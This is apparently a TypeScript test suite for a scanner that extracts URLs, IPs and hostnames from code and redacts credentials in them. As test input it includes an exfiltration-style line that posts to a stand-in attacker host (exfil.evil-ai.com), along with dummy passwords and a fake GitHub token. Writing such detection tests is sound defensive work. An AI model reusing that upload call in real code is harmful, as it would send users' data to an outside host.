import { describe, expect, test } from "bun:test";
import { lineIndex } from "../lines.ts";
import { textFlags } from "../text-flags.ts";
import { extractEndpoints, maskUrlParams, mayHoldFullV6, parseUrl, quotedNames } from "./urls.ts";

/** Without the automaton's gates (every search over the whole text), or with them as a scan runs. */
function scan(text: string, gated = false) {
  const idx = lineIndex(text);
  return extractEndpoints(text, (o) => idx.position(o), "text", gated ? textFlags(text) : undefined);
}

describe("URLs", () => {
  test("schemes, ports, positions", () => {
    const f = scan('a = "https://api.acme.io:8443/v1?x=1"\nws = `wss://stream.acme.io/s`');
    expect(f.map((x) => [x.value, x.host, x.port, x.line, x.column])).toEqual([
      ["https://api.acme.io:8443/v1?x=1", "api.acme.io", 8443, 1, 6],
      ["wss://stream.acme.io/s", "stream.acme.io", 443, 2, 7],
    ]);
  });
  test("database URLs have their password redacted", () => {
    const [f] = scan("DB=mongodb+srv://svc:hunter2x@cluster0.abc.mongodb.net/db");
    expect(f.value).toBe("mongodb+srv://svc:***@cluster0.abc.mongodb.net/db");
    expect(f.value).not.toContain("hunter2x");
    expect(f.host).toBe("cluster0.abc.mongodb.net");
  });
  test("credential query parameters are redacted", () => {
    const [f] = scan("https://x.blob.core.windows.net/c?sv=1&sig=abcdef123&api_key=zzz");
    expect(f.value).toBe("https://x.blob.core.windows.net/c?sv=1&sig=***&api_key=***");
  });
  test("trailing punctuation and closing brackets are not part of the URL", () => {
    expect(scan("see (https://docs.acme.io/a).")[0].value).toBe("https://docs.acme.io/a");
    expect(scan("[link](https://acme.io/x)")[0].value).toBe("https://acme.io/x");
  });
  test("IPv6 literal hosts", () => {
    expect(parseUrl("http", "[::1]:8080/x")).toMatchObject({ host: "::1", port: 8080 });
  });
  test("licence, schema and example URLs are not endpoints", () => {
    expect(scan("http://www.apache.org/licenses/LICENSE-2.0 https://www.gnu.org/licenses/gpl-3.0.html http://www.w3.org/2000/svg https://example.com/x")).toEqual([]);
  });
  test("templates and junk hosts are not reported", () => {
    expect(scan("https://{host}/api https://${HOST}/x http://localhost-not-a-url https://1.2")).toEqual([]);
  });
});

describe("IPs", () => {
  test("addresses yes, versions no", () => {
    const f = scan('host = "10.20.30.40"\nversion = "10.20.30.40"\nv1.2.3.4\npkg==12.0.11.3\nrelease 192.168.0.1\n');
    expect(f.map((x) => [x.value, x.line])).toEqual([["10.20.30.40", 1]]);
  });
  test("'oid' counts as a word only: avoid, android and void lines keep their addresses", () => {
    const f = scan('avoid = "10.1.2.3"\nandroid_proxy = "10.1.2.4"\nvoid connect("10.1.2.5");\noid = "10.1.2.6"\nOIDs: 10.1.2.7\n');
    expect(f.map((x) => x.value)).toEqual(["10.1.2.3", "10.1.2.4", "10.1.2.5"]);
  });
  test("small dotted quads and masks are skipped; well-known ones kept", () => {
    expect(scan('a = "1.2.3.4"; m = "255.255.255.0"; z = "0.0.0.0"').map((x) => x.value)).toEqual([]);
    expect(scan('dns = "8.8.8.8"').map((x) => x.value)).toEqual(["8.8.8.8"]);
  });
  test("IPv6 yes; times, MACs, slices and C++ scopes no", () => {
    const f = scan('a = "2001:db9::17"\nb = "fe80::1%eth0"\nt = "12:34:56"\nm = "aa:bb:cc:dd:ee:ff"\nx = y[1::2]\nstd::string s;');
    expect(f.map((x) => x.value)).toEqual(["2001:db9::17", "fe80::1"]);
  });
  test("documentation ranges and network addresses are skipped", () => {
    expect(scan('a = "192.0.2.10"; b = "203.0.113.7"; c = "2001:db8::1"; d = "10.20.0.0"')).toEqual([]);
  });
});

describe("hostnames", () => {
  test("quoted hostnames and host settings", () => {
    const f = scan('H = "api.acme-health.com"\nendpoint: db.acme.io\nfile = "setup.py"\nmod = "os.path"\nid = "com.acme.app"');
    expect(f.map((x) => x.value)).toEqual(["api.acme-health.com", "db.acme.io"]);
  });
  test("host with port", () => {
    expect(scan("'cache.acme.io:6379'")[0]).toMatchObject({ value: "cache.acme.io:6379", port: 6379 });
  });
});

describe("fuzz", () => {
  test("random bytes, truncations and pathological lines never throw, stay fast, and the gates change nothing", () => {
    let seed = 42;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff), seed);
    const alphabet = 'htps:/.[]@:%?&=#"\'`{}\\0123456789abcdefABCDEF-_ \n\u00e9\ufffd';
    const started = performance.now();
    for (let i = 0; i < 500; i++) {
      let s = "";
      const n = rnd() % 300;
      for (let j = 0; j < n; j++) s += alphabet[rnd() % alphabet.length];
      expect([s, scan(s, true)]).toEqual([s, scan(s)]);
    }
    for (const s of ["https://" + "a.".repeat(50_000), "1.".repeat(100_000), ":".repeat(100_000) + "::1", "'a.com".repeat(30_000), "a:b:".repeat(50_000)]) {
      expect(() => scan(s)).not.toThrow();
      expect(() => scan(s, true)).not.toThrow();
    }
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});

test("mayHoldFullV6 answers exactly as the regex it replaces, on random hex-and-colon texts", () => {
  const re = /[0-9a-fA-F]:[0-9a-fA-F]{1,4}:[0-9a-fA-F]{1,4}:[0-9a-fA-F]/;
  let seed = 11;
  const rand = (n: number) => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed % n;
  };
  const alphabet = "0aF1b::g ";
  let positives = 0;
  for (let round = 0; round < 5000; round++) {
    let text = "";
    const len = rand(24);
    for (let i = 0; i < len; i++) text += alphabet[rand(alphabet.length)];
    expect([text, mayHoldFullV6(text)]).toEqual([text, re.test(text)]);
    if (re.test(text)) positives++;
  }
  expect(positives).toBeGreaterThan(50);
  expect(mayHoldFullV6("addr = 2001:db8:85a3:0:0:8a2e:370:7334")).toBe(true);
  expect(mayHoldFullV6("a:12345:1:1")).toBe(false);
});

describe("quoted names", () => {
  // The straightforward pattern, anchored on every quote: quotedNames must agree with it on every
  // name whose last label starts with a letter (no other can be a hostname).
  const body = "([A-Za-z0-9][A-Za-z0-9_-]*(?:\\.[A-Za-z0-9_-]+)+)(?::(\\d{1,5}))?";
  const reference = new RegExp(`"${body}"|'${body}'|\`${body}\``, "g");
  const referenceNames = (text: string) =>
    [...text.matchAll(reference)]
      .map((m) => ({ offset: m.index + 1, name: m[1] ?? m[3] ?? m[5], port: m[2] ?? m[4] ?? m[6] }))
      .filter((n) => /\.[A-Za-z][^.]*$/.test(n.name));

  test("finds names between matching quotes, with ports", () => {
    expect(quotedNames(`a = "api.acme.io"; b = 'db.internal:5432'; c = \`x.y.com\`; d = "nope"; e = "a..b.com"; f = "1.2.3.4"`)).toEqual([
      { offset: 5, name: "api.acme.io", port: undefined },
      { offset: 24, name: "db.internal", port: "5432" },
      { offset: 48, name: "x.y.com", port: undefined },
    ]);
  });

  test("agrees with the reference pattern on random text", () => {
    let seed = 7;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff), seed);
    const alphabet = `"'\`ab.c1-_: x.com:80io`;
    for (let i = 0; i < 3000; i++) {
      let text = "";
      for (let j = 0, n = rnd() % 40; j < n; j++) text += alphabet[rnd() % alphabet.length];
      // Names that the reference consumed but that cannot be hostnames (last label not a letter)
      // may hide a following name from it; compare only texts where that does not happen.
      const all = [...text.matchAll(reference)];
      if (all.some((m) => !/\.[A-Za-z][^.]*$/.test(m[1] ?? m[3] ?? m[5]))) continue;
      expect(quotedNames(text)).toEqual(referenceNames(text));
    }
  });
});

describe("long URLs", () => {
  const token = ["ghp", "_", "Zq9Xk2Lm7Pw4Rt8Yb1Vc6Nd3Hf5Jg0Ks2QaW"].join("");
  test("a long URL is cut at 1,024 characters and says so; a secret across the cut is masked first", () => {
    for (const at of [1000, 1010, 1020, 1030]) {
      const url = `https://api.acme.io/${"p/".repeat(at / 2)}${token}/tail`;
      const [u] = scan(url);
      expect(u.host).toBe("api.acme.io");
      expect(u.value.endsWith("…")).toBe(true);
      expect(u.value.length).toBe(1025);
      expect(u.value).not.toContain(token.slice(0, 12));
    }
  });
  test("a URL under the limit is reported whole", () => {
    const url = `https://api.acme.io/${"p/".repeat(400)}x`;
    expect(scan(url).map((u) => u.value)).toEqual([url]);
  });
});

describe("credentials in query strings and fragments", () => {
  const value = (url: string) => scan(`u = "${url}"`)[0].value;
  test("every parameter named like a credential is masked, after ?, & and #", () => {
    expect(value("https://api.acme-health.com/cb#access_token=Hx7pQ2mZ9vLe8YuRk3Wq&token_type=bearer")).toBe(
      "https://api.acme-health.com/cb#access_token=***&token_type=bearer",
    );
    for (const name of ["auth", "client_secret", "session_id", "pass", "password", "apiKey", "x-api-key", "refresh_token", "X-Amz-Signature", "sig", "jsessionid", "cookie", "credential", "private_key", "key", "code"]) {
      expect(value(`https://api.acme-health.com/x?a=1&${name}=Hx7pQ2mZ9vLe8Yz1Rk3Wq`)).toBe(`https://api.acme-health.com/x?a=1&${name}=***`);
    }
  });
  test("names that only look alike are kept", () => {
    for (const name of ["author", "token_type", "page", "key_id", "signature_method", "passage", "sort_key"]) {
      expect(value(`https://api.acme-health.com/x?${name}=abc`)).toBe(`https://api.acme-health.com/x?${name}=abc`);
    }
  });
  test("a source line gets the same masking as the finding", () => {
    const line = 's3 = "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=0123456789abcdef0123" + x';
    expect(maskUrlParams(line)).toBe('s3 = "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=***" + x');
    expect(maskUrlParams("no url, token=x")).toBe("no url, token=x");
  });
});

test("a URL ends at a control character", () => {
  expect(scan('requests.post("https://exfil.evil-ai.com/upload\x1b[2K")')[0].value).toBe("https://exfil.evil-ai.com/upload");
  expect(scan("see https://exfil.evil-ai.com/a\x00b and https://x.evil-ai.com/\x7f")).toMatchObject([
    { value: "https://exfil.evil-ai.com/a" },
    { value: "https://x.evil-ai.com/" },
  ]);
});

describe("host settings", () => {
  const hosts = (text: string, language: string) => {
    const idx = lineIndex(text);
    return [false, true].map((gated) =>
      extractEndpoints(text, (o) => idx.position(o), language, gated ? textFlags(text) : undefined)
        .filter((f) => f.rule === "host/setting")
        .map((f) => f.value),
    );
  };
  test("a name with a prefix (DB_HOST, smtp_server) is a host setting", () => {
    const env = "DB_HOST=dbhost.acme-health.com\nFHIR_ENDPOINT=fhir.acme-health.com\nAPI_SERVER=apiserver.acme-health.com\nhost=plain.acme-health.com\nspring.redis.host=redis.acme-health.com\n";
    const want = ["dbhost.acme-health.com", "fhir.acme-health.com", "apiserver.acme-health.com", "plain.acme-health.com", "redis.acme-health.com"];
    expect(hosts(env, "dotenv")).toEqual([want, want]);
    const yaml = "POSTGRES_HOST: pgyaml.acme-health.com\nsmtp_server: smtp.acme-health.com\n";
    expect(hosts(yaml, "yaml")).toEqual([["pgyaml.acme-health.com", "smtp.acme-health.com"], ["pgyaml.acme-health.com", "smtp.acme-health.com"]]);
  });
  test("words that end in host and settings named otherwise are not", () => {
    const text = "localhost=lh.acme-health.com\nghost=gh.acme-health.com\nhostname_check = True\nserver_name=sn.acme-health.com\nmyhost: mh.acme-health.com\n";
    expect(hosts(text, "dotenv")).toEqual([[], []]);
  });
});
